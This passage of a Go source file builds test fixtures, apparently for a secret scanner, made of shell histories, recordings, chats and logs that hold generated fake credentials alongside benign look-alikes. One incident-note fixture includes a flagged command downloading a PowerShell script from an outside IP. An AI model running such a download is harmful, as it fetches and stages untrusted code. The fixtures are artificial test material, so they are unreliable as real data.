«a»
dana@MacBook-Pro ~ % pbcopy < /dev/null
dana@MacBook-Pro ~ % 
`, V{"a": g.pwStrong()}, `"AWS prod root"`, "Last login: Tue Jun 25 08:12:03 on ttys004")

	g.shellhistAdd("shellhist/asciinema-v2-git-push-credential", `
{"version": 2, "width": 120, "height": 30, "timestamp": 1718091100, "env": {"SHELL": "/bin/bash", "TERM": "xterm-256color"}}
[0.40, "o", "$ git push https://ci-bot:«a»@bitbucket.org/acme/payments.git HEAD:main\r\n"]
[2.91, "o", "Enumerating objects: 9, done.\r\nCounting objects: 100% (9/9), done.\r\n"]
[3.55, "o", "To https://bitbucket.org/acme/payments.git\r\n   «_s1»..«_s2»  HEAD -> main\r\n"]
`, V{"a": "ATBB" + g.an(28) + g.hex(8), "_s1": g.hex(9), "_s2": g.hex(9)}, "https://bitbucket.org/acme/payments.git")

	g.shellhistAdd("shellhist/script-typescript-sudo-timeout-typed", `
Script started on 2024-03-28 22:10:05+01:00 [TERM="tmux-256color" TTY="/dev/pts/7" COLUMNS="200" LINES="52"]
[jan@fedora ~]$ sudo dnf upgrade --refresh␍
[sudo] password for jan: ␍
sudo: timed out reading password␍
[jan@fedora ~]$ «a»␍
bash: «a»: command not found...␍
[jan@fedora ~]$ ␍
Script done on 2024-03-28 22:11:19+01:00 [COMMAND_EXIT_CODE="127"]
`, V{"a": g.pw()}, "sudo: timed out reading password", "sudo dnf upgrade --refresh")
}

// shellhistKeyPaste is an OpenSSH private key pasted into bash line by
// line, each line answered by "command not found". The first three body
// lines (the fixed header and the public key) are filler; the rest, which
// hold the private key, are secret.
func (g *G) shellhistKeyPaste() (string, V) {
	k, _ := g.sshEd25519("deploy@build")
	v := V{}
	var b strings.Builder
	lines := strings.Split(k.body, "\n")
	word := func(s string) string { return strings.SplitN(s, " ", 2)[0] }
	b.WriteString("$ " + k.begin + "\nbash: " + word(k.begin) + ": command not found\n")
	for i, l := range lines {
		key := fmt.Sprintf("k%d", i)
		if i < 3 || len(l) < 8 {
			key = "=" + key
		}
		v[key] = l
		b.WriteString("$ «" + key + "»\nbash: «" + key + "»: command not found\n")
	}
	b.WriteString("$ " + k.end + "\nbash: " + word(k.end) + ": command not found\n$ clear\n")
	return b.String(), v
}

func (g *G) shellhistPastes() {
	g.shellhistAdd("shellhist/paste-bash-command-not-found", `
alex@web-02:~$ sudo -k
alex@web-02:~$ «a»
«a»: command not found
alex@web-02:~$ history -d -2
alex@web-02:~$ sudo systemctl restart php8.2-fpm
[sudo] password for alex: 
`, V{"a": g.pw()}, "sudo systemctl restart php8.2-fpm", "alex@web-02")

	g.shellhistAdd("shellhist/paste-zsh-command-not-found", `
~/src/api main* ❯ «a»
zsh: command not found: «a»
~/src/api main* ❯ fc -W && sed -i '' '/«a»/d' ~/.zsh_history
`, V{"a": g.ghp()}, "~/src/api main*")

	g.shellhistAdd("shellhist/paste-fish-unknown-command", `
yuki@archbox ~> «a»
fish: Unknown command: «a»
yuki@archbox ~> history delete --exact --case-sensitive '«a»'
`, V{"a": g.pwStrong()}, "yuki@archbox")

	g.shellhistAdd("shellhist/paste-powershell-not-recognized", `
PS C:\Users\mkowalski> «a»
«a» : The term '«a»' is not recognized as the name of a cmdlet, function, script file, or operable program. Check the spelling of the name, or if a path was included, verify that the path is correct and try again.
At line:1 char:1
+ «a»
+ ~~~~~~~~~~~~~~~~~~~~~~~~~
    + CategoryInfo          : ObjectNotFound: («a»:String) [], CommandNotFoundException
    + FullyQualifiedErrorId : CommandNotFoundException
`, V{"a": g.pw()}, `C:\Users\mkowalski`, "CommandNotFoundException")

	g.shellhistAdd("shellhist/paste-cmd-not-recognized", `
C:\Users\svc_build>«a»
'«a»' is not recognized as an internal or external command,
operable program or batch file.

C:\Users\svc_build>
`, V{"a": g.pwStrong()}, `C:\Users\svc_build>`)

	g.shellhistAdd("shellhist/paste-psreadline-lone-password", `
Enter-PSSession -ComputerName dc01.corp.contoso.com -Credential CONTOSO\adm-lwagner
«a»
Enter-PSSession -ComputerName dc01.corp.contoso.com -Credential CONTOSO\adm-lwagner
Get-ADUser lwagner -Properties LockedOut
`, V{"a": g.pw()}, "dc01.corp.contoso.com", `CONTOSO\adm-lwagner`)

	g.shellhistAdd("shellhist/paste-mysql-prompt", `
$ mysql -h 10.0.3.12 -u admin -p
Enter password: 
ERROR 1045 (28000): Access denied for user 'admin'@'10.0.3.7' (using password: YES)
$ mysql -h 10.0.3.12 -u admin
mysql> «a»
    -> ;
ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '«a»' at line 1
`, V{"a": g.pw()}, "Access denied for user 'admin'@'10.0.3.7' (using password: YES)")

	g.shellhistAdd("shellhist/paste-psql-prompt", `
reporting=> «a»
reporting-> \r
Query buffer reset (cleared).
reporting=> \password reporting
Enter new password for user "reporting": 
Enter it again: 
`, V{"a": g.pwStrong()}, "Query buffer reset (cleared).", `\password reporting`)

	g.shellhistAdd("shellhist/paste-env-file-into-shell", `
: 1716900000:0;cd ~/src/checkout
: 1716900011:0;APP_ENV=staging
: 1716900011:0;DB_PASSWORD=«a»
: 1716900011:0;STRIPE_KEY=«b»
: 1716900011:0;MAILGUN_DOMAIN=mg.checkout.dev
: 1716900011:0;JWT_SECRET=«c»
: 1716900035:0;vim .env
`, V{"a": g.pw(), "b": g.skTest(), "c": g.b64(48)}, "MAILGUN_DOMAIN=mg.checkout.dev")

	tmpl, v := g.shellhistKeyPaste()
	g.shellhistAdd("shellhist/paste-private-key-into-bash", tmpl, v)

	g.shellhistAdd("shellhist/paste-token-at-git-username-prompt", `
$ git push origin feature/sso
Username for 'https://github.com': «a»
Password for 'https://«a»@github.com': 
remote: Support for password authentication was removed on August 13, 2021.
remote: Please see https://docs.github.com/get-started/getting-started-with-git/about-remote-repositories#cloning-with-https-urls for information on currently recommended modes of authentication.
fatal: Authentication failed for 'https://github.com/fernhill/web.git/'
`, V{"a": g.ghp()}, "feature/sso", "https://github.com/fernhill/web.git/")

	g.shellhistAdd("shellhist/paste-su-then-password", `
#1711450002
su - postgres
#1711450009
«a»
#1711450015
sudo -iu postgres
#1711450040
psql -c 'select version();'
`, V{"a": g.pw()}, "sudo -iu postgres")

	g.shellhistAdd("shellhist/paste-leading-space-still-in-recording", `
{"version": 2, "width": 110, "height": 28, "timestamp": 1718700000, "env": {"SHELL": "/bin/zsh", "TERM": "xterm-256color"}}
[0.52, "o", "\u001b[32m~/src/bot\u001b[0m $ "]
[1.60, "o", " export SLACK_APP_TOKEN=«a»"]
[1.88, "o", "\r\r\n"]
[2.01, "o", "\u001b[32m~/src/bot\u001b[0m $ "]
[3.44, "o", "npm run dev\r\r\n"]
[5.02, "o", "⚡️ Bolt app is running! (socket mode)\r\n"]
`, V{"a": g.xapp()}, "⚡️ Bolt app is running! (socket mode)")

	g.shellhistAdd("shellhist/paste-password-into-ssh-host-field", `
: 1712001000:0;ssh «a»
: 1712001002:0;ssh deploy@10.40.2.18
: 1712001190:0;exit
`, V{"a": g.pwStrong()}, "deploy@10.40.2.18")

	g.shellhistAdd("shellhist/paste-bash-event-not-found", `
$ export SMTP_PASS="«a»"
bash: !x": event not found
$ export SMTP_PASS='«a»'
$ echo $SMTP_PASS | wc -c
`, V{"a": g.an(14) + "!x"}, "bash: !x\": event not found")

	g.shellhistAdd("shellhist/paste-2fa-recovery-code", `
- cmd: «a»
  when: 1719900100
- cmd: bw login kira@fernhill.io --method 0 --code «b»
  when: 1719900160
- cmd: bw unlock --raw
  when: 1719900190
`, V{"a": g.pwStrong(), "b": g.s(alLowNum, 4) + "-" + g.s(alLowNum, 4) + "-" + g.s(alLowNum, 4) + "-" + g.s(alLowNum, 4)}, "bw unlock --raw", "kira@fernhill.io")
}

func (g *G) shellhistChat() {
	g.shellhistAdd("shellhist/chat-user-pastes-history-excerpt", `
user: my deploy broke after I rotated keys, here's what I ran (copied from history):

  1201  export AWS_ACCESS_KEY_ID=«a»
  1202  export AWS_SECRET_ACCESS_KEY=«b»
  1203  aws eks update-kubeconfig --name prod-eks --region eu-west-1
  1204  kubectl get pods
  error: You must be logged in to the server (Unauthorized)

assistant: The new IAM user isn't mapped in the cluster's aws-auth ConfigMap (or as an EKS access entry). Add it with eksctl create iamidentitymapping, and please don't paste the secret key here again — rotate it, since it is now in this chat.
`, V{"a": g.awsID(), "b": g.awsSecret()}, "eksctl create iamidentitymapping", "prod-eks")

	g.shellhistAdd("shellhist/chat-agent-scrub-history", `
user: I typed my db password as a command by accident, can you remove it from my zsh history? the line is ": 1718811004:0;«a»"
assistant: Run these in a new shell (so the current one doesn't write its history back):
  fc -W
  sed -i.bak '/^: 1718811004:0;/d' ~/.zsh_history
  rm ~/.zsh_history.bak
Then change the password, since it also went to Atuin's sync if you use it.
`, V{"a": g.pw()}, "sed -i.bak '/^: 1718811004:0;/d' ~/.zsh_history")

	g.shellhistAdd("shellhist/chat-github-issue-asciinema", `
### Steps to reproduce

Recording: https://asciinema.org/a/«_id»

Relevant part of the .cast:

    [12.301, "o", "$ supabase link --project-ref «_ref» --password «a»\r\n"]
    [14.877, "o", "Error: failed to connect to postgres: tls error (EOF)\r\n"]

### Expected
Link succeeds.
`, V{"_id": g.digits(6), "_ref": g.s(alLower, 20), "a": g.pwURL()}, "failed to connect to postgres: tls error (EOF)")

	g.shellhistAdd("shellhist/chat-slack-typescript-paste", `
[14:02] Omar: fyi the migration script hung, the typescript is below
[14:02] Omar: ˋˋˋ
Script started on 2024-06-20 13:51:07+00:00 [TERM="xterm-256color" TTY="/dev/pts/4" COLUMNS="180" LINES="50"]
omar@jump:~$ ./migrate.sh --dsn "sqlserver://sa:«a»@mssql-prod:1433?database=erp"
[migrate] 0041_add_index.sql ... ok
[migrate] 0042_backfill.sql ... 
ˋˋˋ
[14:05] Lina: the DSN with the sa password is in there btw, rotate it pls
`, V{"a": g.pwStrong()}, "0042_backfill.sql", "mssql-prod:1433?database=erp")

	g.shellhistAdd("shellhist/chat-agent-summary-history-leak", `
assistant: I checked ~/.bash_history as you asked. Three entries contain credentials:
  • line 188: ˋmysql -uroot -p«a»ˋ
  • line 412: ˋcurl -H "X-Auth-Token: «b»" https://api.rackspace.example/v2ˋ
  • line 977: ˋexport GH_TOKEN=«c»ˋ
I have not edited the file. To remove them: ˋhistory -c; sed -i '188d;412d;977d' ~/.bash_history; history -rˋ, then rotate all three.
`, V{"a": g.pw(), "b": g.hex(32), "c": g.ghu()}, "history -c; sed -i '188d;412d;977d' ~/.bash_history; history -r")

	g.shellhistAdd("shellhist/chat-user-fish-history-question", `
user: why does fish keep showing this as a suggestion? it's in ~/.local/share/fish/fish_history:

- cmd: set -gx CLOUDSMITH_API_KEY «a»
  when: 1715002003

assistant: Fish autosuggestions come from your history. Delete it with ˋhistory delete --prefix "set -gx CLOUDSMITH_API_KEY"ˋ and then ˋhistory saveˋ, and revoke the key in Cloudsmith since it has been on disk.
`, V{"a": g.hex(40)}, `history delete --prefix "set -gx CLOUDSMITH_API_KEY"`)

	g.shellhistAdd("shellhist/chat-psreadline-forensics", `
Ticket INC-20931 — incident notes (jdoe laptop)

Found in %APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt:
    $env:SNOWFLAKE_PASSWORD = '«a»'
    snowsql -a acme-eu1 -u SVC_LOADER -d RAW
    Invoke-WebRequest -Uri http://203.0.113.50/u.ps1 -OutFile $env:TEMP\u.ps1
The last line matches the IOC list. SVC_LOADER credentials reset 2024-06-21 09:40 UTC.
`, V{"a": g.pwStrong()}, "INC-20931", "SVC_LOADER", "http://203.0.113.50/u.ps1")

	g.shellhistAdd("shellhist/chat-pr-review-recording", `
Review comment on docs/demo.cast (line 57):

> [31.220, "o", "curl -u «_u»:«a» https://«_sub».zendesk.com/api/v2/tickets.json\r\n"]

This recording has a live Zendesk API token in it ("«_u»" is the agent email with /token). Please re-record with a dummy account before we merge.
`, V{"_u": "support@fernhill.io/token", "a": g.an(40), "_sub": "fernhill"}, "docs/demo.cast (line 57)")

	g.shellhistAdd("shellhist/chat-user-viminfo-leak", `
user: found this in /root/.viminfo on the old server while cleaning up, is it bad?

""0	LINE	0
	rootpw --iscrypted «_h»
	bootloader --password=«a»
|3,1,0,1,2,0,1622110510,"rootpw --iscrypted «_h»","bootloader --password=«a»"

assistant: The --iscrypted value is a SHA-512 crypt hash (still worth keeping private), but the bootloader password is in clear text: change it on any machine installed from that kickstart.
`, V{"_h": "$6$" + g.s(alAlnum+"./", 16) + "$" + g.s(alAlnum+"./", 86), "a": g.pw()}, "bootloader --password=")

	g.shellhistAdd("shellhist/chat-tmux-pane-question", `
user: can you tell why celery can't connect? (tmux pane copy)

  worker-1  | [2024-06-22 07:12:03,118: ERROR/MainProcess] consumer: Cannot connect to amqp://celery:**@rabbitmq:5672//: [Errno 111] Connection refused.
  worker-1  | Trying again in 4.00 seconds... (2/100)
  $ docker compose exec worker env | grep BROKER
  CELERY_BROKER_URL=amqp://celery:«a»@rabbitmq:5672//

assistant: The worker resolves "rabbitmq" but nothing listens on 5672 yet — add a healthcheck to the rabbitmq service and depends_on: condition: service_healthy on the worker.
`, V{"a": g.pwURL()}, "amqp://celery:**@rabbitmq:5672//", "condition: service_healthy")

	g.shellhistAdd("shellhist/chat-redis-history-cleanup", `
user: our pentest report flagged /home/deploy/.rediscli_history, it has:
    AUTH «a»
    CONFIG GET *
assistant: Newer redis-cli versions no longer write AUTH to history, but this file predates that. Delete it, set ˋREDISCLI_HISTFILE=/dev/nullˋ for the deploy user, and change requirepass.
`, V{"a": g.an(40)}, "REDISCLI_HISTFILE=/dev/null", "/home/deploy/.rediscli_history")

	g.shellhistAdd("shellhist/chat-commit-bash-history", `
$ git show --stat «_sha»
commit «_sha»
Author: Pat Lee <pat@fernhill.io>
Date:   Mon Jun 24 18:20:11 2024 +0200

    add dotfiles

 .bash_history | 214 ++++++++++++++++
 .bashrc       |  41 +++
$ git show «_sha»:.bash_history | grep -n terraform
57:export TF_TOKEN_app_terraform_io=«a»
58:terraform login
`, V{"_sha": g.gitSHA(), "a": g.tfcToken()}, "pat@fernhill.io", "add dotfiles")
}

func (g *G) shellhistBenign() {
	g.shellhistAdd("shellhist/benign-bash-history-git-shas", `
git log --oneline -3
git show «_a»
git revert --no-edit «_b»
git cherry-pick «_c»
git bisect start HEAD «_d»
git push origin HEAD:refs/heads/hotfix/2.3.1
`, V{"_a": g.hex(7), "_b": g.gitSHA(), "_c": g.hex(12), "_d": g.gitSHA()}, "HEAD:refs/heads/hotfix/2.3.1")

	g.shellhistAdd("shellhist/benign-docker-container-ids", `
#1712120001
docker ps -a --format '{{.ID}} {{.Names}} {{.Status}}'
#1712120019
docker logs --tail 50 «_a»
#1712120040
docker exec -it «_a» sh
#1712120102
docker rm -f «_b» «_c»
#1712120110
docker inspect «_full» | jq '.[0].State'
`, V{"_a": g.shellhistCID(), "_b": g.shellhistCID(), "_c": g.shellhistCID(), "_full": g.hex(64)}, "docker ps -a --format '{{.ID}} {{.Names}} {{.Status}}'")

	g.shellhistAdd("shellhist/benign-image-digests", `
: 1713000001:0;docker pull nginx@«_a»
: 1713000050:0;crane digest ghcr.io/acme/api:2.8.0
: 1713000062:0;cosign verify ghcr.io/acme/api@«_b» --certificate-identity-regexp 'https://github.com/acme/.*' --certificate-oidc-issuer https://token.actions.githubusercontent.com
: 1713000120:0;kubectl set image deploy/api api=ghcr.io/acme/api@«_b»
`, V{"_a": g.shellhistDigest(), "_b": g.shellhistDigest()}, "https://token.actions.githubusercontent.com", "ghcr.io/acme/api:2.8.0")

	g.shellhistAdd("shellhist/benign-sha256sum-output", `
$ sha256sum -c SHA256SUMS 2>/dev/null | head -3
terraform_1.8.5_linux_amd64.zip: OK
$ sha256sum terraform_1.8.5_linux_amd64.zip
«_a»  terraform_1.8.5_linux_amd64.zip
$ md5sum backup-2024-06-01.tar.zst
«_b»  backup-2024-06-01.tar.zst
$ b2sum -l 256 dump.sql
«_c»  dump.sql
`, V{"_a": g.hex(64), "_b": g.hex(32), "_c": g.hex(64)}, "terraform_1.8.5_linux_amd64.zip: OK")

	g.shellhistAdd("shellhist/benign-uuids-history", `
- cmd: az account set --subscription «_a»
  when: 1714100001
- cmd: az group show -n rg-data-weu --query id -o tsv
  when: 1714100022
- cmd: az role assignment list --assignee «_b» -o table
  when: 1714100080
- cmd: uuidgen | tr A-Z a-z
  when: 1714100099
`, V{"_a": g.uuid(), "_b": g.uuid()}, "az group show -n rg-data-weu --query id -o tsv")

	g.shellhistAdd("shellhist/benign-ports-pids", `
$ history | tail -6
 2001  lsof -nP -iTCP:5432 -sTCP:LISTEN
 2002  kill -9 «_p1»
 2003  ss -ltnp | grep -E ':(8080|9090|3000)'
 2004  kill -HUP «_p2»
 2005  ps -o pid,ppid,etime,cmd -p «_p2»
 2006  history | tail -6
`, V{"_p1": g.shellhistPID(), "_p2": g.shellhistPID()}, "lsof -nP -iTCP:5432 -sTCP:LISTEN", "ss -ltnp | grep -E ':(8080|9090|3000)'")

	g.shellhistAdd("shellhist/benign-ssh-fingerprints", `
$ ssh-keygen -lf ~/.ssh/id_ed25519.pub
256 «_a» rosa@thinkpad (ED25519)
$ ssh-keyscan -t ed25519 git.internal 2>/dev/null | ssh-keygen -lf -
256 «_b» git.internal (ED25519)
$ gpg --list-keys --keyid-format long rosa@fernhill.io
pub   ed25519/«_k» 2023-02-11 [SC]
      «_fpr»
`, V{"_a": g.shellhistFP(), "_b": g.shellhistFP(), "_k": strings.ToUpper(g.hex(16)), "_fpr": strings.ToUpper(g.hex(40))}, "rosa@thinkpad (ED25519)")

	g.shellhistAdd("shellhist/benign-placeholders-in-history", `
export GITHUB_TOKEN=$(gh auth token)
export OPENAI_API_KEY="$(op read 'op://Private/OpenAI/credential')"
export VAULT_TOKEN=$(cat ~/.vault-token)
curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/rate_limit
docker login ghcr.io -u "$USER" --password-stdin < ~/.ghcr-token
mysql -u root -p
`, nil, "$(op read 'op://Private/OpenAI/credential')", "--password-stdin < ~/.ghcr-token", `"Authorization: Bearer $GITHUB_TOKEN"`)

	g.shellhistAdd("shellhist/benign-zsh-extended-epochs", `
: 1712345601:0;ls
: 1712345605:2;make build
: 1712345690:0;./bin/server --port 8081 --metrics-port 9102
: 1712345701:0;curl -s localhost:9102/metrics | grep go_goroutines
: 1712345777:0;git commit -am 'fix: bump worker pool to 32'
`, nil, "--port 8081 --metrics-port 9102", "git commit -am 'fix: bump worker pool to 32'")

	g.shellhistAdd("shellhist/benign-mysql-history-selects", shellhistLibedit(
		"use shop;",
		"select id, status, total from orders where id = 918273;",
		"select count(*) from sessions where expires_at < now();",
		"explain select * from orders where customer_id = 4411;",
	), nil, `explain\040select\040*\040from\040orders`)

	g.shellhistAdd("shellhist/benign-asciinema-build-output", `
{"version": 2, "width": 120, "height": 30, "timestamp": 1715000000, "env": {"SHELL": "/bin/bash", "TERM": "xterm-256color"}}
[0.12, "o", "$ docker build -t acme/web:dev .\r\n"]
[1.90, "o", "#5 [internal] load metadata for docker.io/library/node:20-alpine\r\n"]
[4.33, "o", "#8 [2/6] WORKDIR /app\r\n#8 CACHED\r\n"]
[9.71, "o", "#12 writing image «_d» done\r\n#12 naming to docker.io/acme/web:dev done\r\n"]
[9.80, "o", "$ "]
`, V{"_d": g.shellhistDigest()}, "docker.io/library/node:20-alpine")

	g.shellhistAdd("shellhist/benign-script-typescript-git-log", `
Script started on 2024-05-09 11:00:00+02:00 [TERM="xterm-256color" TTY="/dev/pts/1" COLUMNS="120" LINES="40"]
␛[?2004hdev@ws:~/repo$ git log --oneline -3␍
␛[?2004l␍␛[33m«_a»␛[m␛[33m (␛[m␛[1;36mHEAD -> ␛[m␛[1;32mmain␛[m␛[33m)␛[m Merge pull request #412 from acme/fix-timeouts␍
␛[33m«_b»␛[m Raise upstream timeout to 30s␍
␛[33m«_c»␛[m Add retry budget metric␍
␛[?2004hdev@ws:~/repo$ exit␍

Script done on 2024-05-09 11:00:31+02:00 [COMMAND_EXIT_CODE="0"]
`, V{"_a": g.hex(7), "_b": g.hex(7), "_c": g.hex(7)}, "Merge pull request #412 from acme/fix-timeouts")

	g.shellhistAdd("shellhist/benign-tmux-capture-k8s", `
$ tmux capture-pane -p -t ops:0 | tail -5
NAME                          READY   STATUS    RESTARTS   AGE
api-«_rs»-«_p1»     1/1     Running   0          3h12m
api-«_rs»-«_p2»     1/1     Running   0          3h12m
worker-«_rs2»-«_p3»  1/1     Running   2          1d
`, V{"_rs": g.s("bcdfghjklmnpqrstvwxz2456789", 10), "_p1": g.s("bcdfghjklmnpqrstvwxz2456789", 5), "_p2": g.s("bcdfghjklmnpqrstvwxz2456789", 5), "_rs2": g.s("bcdfghjklmnpqrstvwxz2456789", 9), "_p3": g.s("bcdfghjklmnpqrstvwxz2456789", 5)}, "READY   STATUS    RESTARTS   AGE")

	g.shellhistAdd("shellhist/benign-aws-identity-output", `
$ aws sts get-caller-identity
{
    "UserId": "«_uid»",
    "Account": "«_acct»",
    "Arn": "arn:aws:iam::«_acct»:user/ci-deployer"
}
$ history | tail -2
  611  aws sts get-caller-identity
  612  history | tail -2
`, V{"_uid": "AIDA" + g.s(alAWS, 17), "_acct": g.digits(12)}, "user/ci-deployer")

	g.shellhistAdd("shellhist/benign-masked-history-export", `
$ atuin history list --cmd-only | grep -i key | sed -E 's/(KEY=).{4}.*(.{4})$/\1****\2/'
export STRIPE_KEY=****«_tail»
export OPENAI_API_KEY=****«_tail2»
`, V{"_tail": g.an(4), "_tail2": g.an(4)}, "atuin history list --cmd-only")

	g.shellhistAdd("shellhist/benign-viminfo-marks-only", `
# File marks:
'0  41  12  ~/src/api/internal/server/routes.go
|4,48,41,12,1716001001,"~/src/api/internal/server/routes.go"
'1  1  0  ~/src/api/go.mod
|4,49,1,0,1716000900,"~/src/api/go.mod"

# Jumplist (newest first):
-'  41  12  ~/src/api/internal/server/routes.go
|4,39,41,12,1716001001,"~/src/api/internal/server/routes.go"

# History of marks within files (newest to oldest):

> ~/src/api/internal/server/routes.go
	*	1716001000	0
	"	41	12
	^	41	13
	.	41	12
`, nil, "~/src/api/internal/server/routes.go")

	g.shellhistAdd("shellhist/benign-lesshst-searches", `
.less-history-file:
.search
"panic:
"goroutine 1 \[running\]
"request_id=«_r»
.shell
"wc -l %
`, V{"_r": g.uuid()}, "goroutine 1 \\[running\\]")

	g.shellhistAdd("shellhist/benign-psreadline-hashes", `
Get-FileHash .\Contoso.Setup.msi -Algorithm SHA256
certutil -hashfile .\Contoso.Setup.msi SHA256
Get-AuthenticodeSignature .\Contoso.Setup.msi | fl Status,SignerCertificate
Get-ChildItem Cert:\CurrentUser\My\«_thumb»
Stop-Process -Id «_pid» -Force
Test-NetConnection sql01 -Port 1433
`, V{"_thumb": strings.ToUpper(g.hex(40)), "_pid": g.shellhistPID()}, "Test-NetConnection sql01 -Port 1433", `.\Contoso.Setup.msi`)

	g.shellhistAdd("shellhist/benign-node-repl-crypto", `
crypto.randomUUID()
require('crypto').createHash('sha256').update('hello').digest('hex')
Buffer.from('aGVsbG8gd29ybGQ=', 'base64').toString()
new Date(1716000000000).toISOString()
`, nil, "Buffer.from('aGVsbG8gd29ybGQ=', 'base64').toString()", "require('crypto').createHash('sha256')")

	g.shellhistAdd("shellhist/benign-python-history-ids", `
import uuid, hashlib
uuid.UUID("«_u»").version
hashlib.sha1(b"release-2.4.0").hexdigest()
'«_h»'[:7]
int("«_n»") % 1024
`, V{"_u": g.uuid(), "_h": g.gitSHA(), "_n": g.digits(12)}, `hashlib.sha1(b"release-2.4.0").hexdigest()`)

	g.shellhistAdd("shellhist/benign-fish-history-ci-ids", `
- cmd: gh run view «_run» --log-failed
  when: 1717000100
- cmd: gh run rerun «_run» --failed
  when: 1717000220
- cmd: glab ci view «_pipe»
  when: 1717000301
- cmd: open https://app.circleci.com/pipelines/github/acme/web/«_num»/workflows/«_wf»
  when: 1717000422
`, V{"_run": g.digits(10), "_pipe": g.digits(9), "_num": g.digits(5), "_wf": g.uuid()}, "--log-failed")

	g.shellhistAdd("shellhist/benign-mcfly-dump-plain", `
$ mcfly dump --format json | jq -r '.[].cmd' | tail -4
kubectl -n monitoring port-forward svc/grafana 3000:80
kubectl -n monitoring get secret grafana -o jsonpath='{.data.admin-password}' | base64 -d | pbcopy
helm history grafana -n monitoring
helm rollback grafana 14 -n monitoring
`, nil, "kubectl -n monitoring port-forward svc/grafana 3000:80", "helm rollback grafana 14 -n monitoring")

	g.shellhistAdd("shellhist/benign-asciinema-upload", `
$ asciinema upload demo.cast
View the recording at:

    https://asciinema.org/a/«_id»

This installation of asciinema recorder hasn't been linked to any asciinema.org
account. All unclaimed recordings (from unknown installations like this one)
are automatically archived 7 days after upload.
`, V{"_id": g.s(alAlnum, 25)}, "asciinema upload demo.cast")

	g.shellhistAdd("shellhist/benign-doskey-history", `
C:\repo>doskey /history
git fetch origin
git checkout -b fix/«_issue»-null-ref origin/main
dotnet test --filter FullyQualifiedName~Contoso.Api.Tests.OrdersTests
netstat -ano | findstr :5001
taskkill /PID «_pid» /F
`, V{"_issue": g.digits(4), "_pid": g.shellhistPID()}, "netstat -ano | findstr :5001")

	g.shellhistAdd("shellhist/benign-redis-cli-keys", `
scan 0 match sess:* count 100
ttl sess:«_s»
object encoding queue:emails
xinfo groups events:«_st»
`, V{"_s": g.hex(40), "_st": g.digits(13) + "-0"}, "object encoding queue:emails")

	g.shellhistAdd("shellhist/benign-history-secrets-via-env", `
$ grep -n 'TOKEN\|PASS' ~/.bash_history
412:export TF_VAR_db_password="$DB_PASSWORD"
530:read -rs VAULT_TOKEN && export VAULT_TOKEN
611:kubectl create secret generic api --from-env-file=.env.prod --dry-run=client -o yaml | kubeseal > sealed.yaml
702:echo "::add-mask::$NPM_TOKEN"
`, nil, `export TF_VAR_db_password="$DB_PASSWORD"`, "read -rs VAULT_TOKEN && export VAULT_TOKEN", `echo "::add-mask::$NPM_TOKEN"`)

	g.shellhistAdd("shellhist/benign-atuin-stats", `
$ atuin stats
[▮▮▮▮▮▮▮▮▮▮] 1802 git
[▮▮▮▮▮▮    ] 1133 kubectl
[▮▮▮▮      ]  741 cd
[▮▮        ]  390 docker
[▮         ]  212 make
Total commands:   9821
Unique commands:  4410
$ atuin status
Username: «_user»
Last sync: 2024-06-25 08:01:13.112 +00:00:00
`, V{"_user": "lea-" + g.s(alLowNum, 4)}, "Total commands:   9821")
}

// shellhistNearby covers the other places a typed command line lands:
// sudo's journal lines, auditd EXECVE records, ps output, other tools'
// histories and files read out of containers.
func (g *G) shellhistNearby() {
	g.shellhistAdd("shellhist/journalctl-sudo-command", `
$ journalctl _COMM=sudo --since today -o short-iso | tail -3
2024-06-26T09:14:02+0200 app-03 sudo[«_p1»]:     alex : TTY=pts/1 ; PWD=/home/alex ; USER=root ; COMMAND=/usr/bin/mysql -uroot -p«a» -e SHOW\ SLAVE\ STATUS\\G
2024-06-26T09:14:02+0200 app-03 sudo[«_p1»]: pam_unix(sudo:session): session opened for user root(uid=0) by alex(uid=1000)
2024-06-26T09:14:03+0200 app-03 sudo[«_p1»]: pam_unix(sudo:session): session closed for user root
`, V{"_p1": g.shellhistPID(), "a": g.pw()}, "TTY=pts/1 ; PWD=/home/alex ; USER=root")

	g.shellhistAdd("shellhist/auditd-execve-curl", `
type=SYSCALL msg=audit(1719390211.412:88123): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2e0 a1=55d1c3a0 a2=55d1c410 a3=0 items=2 ppid=«_pp» pid=«_p» auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts2 ses=14 comm="curl" exe="/usr/bin/curl" key="user-commands"
type=EXECVE msg=audit(1719390211.412:88123): argc=5 a0="curl" a1="-s" a2="-u" a3="jenkins-admin:«a»" a4="https://ci.fernhill.io/crumbIssuer/api/json"
type=PROCTITLE msg=audit(1719390211.412:88123): proctitle=6375726C002D73002D75
`, V{"_pp": g.shellhistPID(), "_p": g.shellhistPID(), "a": "11" + g.hex(32)}, "https://ci.fernhill.io/crumbIssuer/api/json", `key="user-commands"`)

	g.shellhistAdd("shellhist/ps-aux-cmdline", `
$ ps -eo pid,user,etime,args | grep -v grep | grep -E 'rsync|lftp'
 «_p1» backup     02:11:09 lftp -u backup,«a» -e mirror -R /srv/exports /exports; quit sftp://storage.hetzner.example
 «_p2» backup     02:11:09 /bin/sh -c /usr/local/bin/offsite.sh >> /var/log/offsite.log 2>&1
`, V{"_p1": g.shellhistPID(), "a": g.pwStrong(), "_p2": g.shellhistPID()}, "/usr/local/bin/offsite.sh", "sftp://storage.hetzner.example")

	g.shellhistAdd("shellhist/lftp-rl-history", `
$ cat ~/.local/share/lftp/rl_history
open ftp.webhost.example
user site1234 «a»
cd public_html
mirror -R --only-newer ./dist .
bye
`, V{"a": g.pw()}, "mirror -R --only-newer ./dist .", "ftp.webhost.example")

	g.shellhistAdd("shellhist/fish-variables-setuvar", `
$ cat ~/.config/fish/fish_variables
# This file contains fish universal variable definitions.
# VERSION: 3.0
SETUVAR __fish_initialized:3400
SETUVAR --export EDITOR:nvim
SETUVAR --export GROQ_API_KEY:«a»
SETUVAR fish_color_autosuggestion:555\x1ebrblack
SETUVAR --export fish_user_paths:/home/ren/\x2elocal/bin\x1e/home/ren/go/bin
`, V{"a": g.groq()}, "SETUVAR --export EDITOR:nvim")

	g.shellhistAdd("shellhist/bash-history-git-insteadof", `
git config --global url."https://x-access-token:«a»@github.com/".insteadOf "https://github.com/"
go mod download
GOPRIVATE=github.com/fernhill/* go build ./...
git config --global --unset url."https://x-access-token:«a»@github.com/".insteadOf
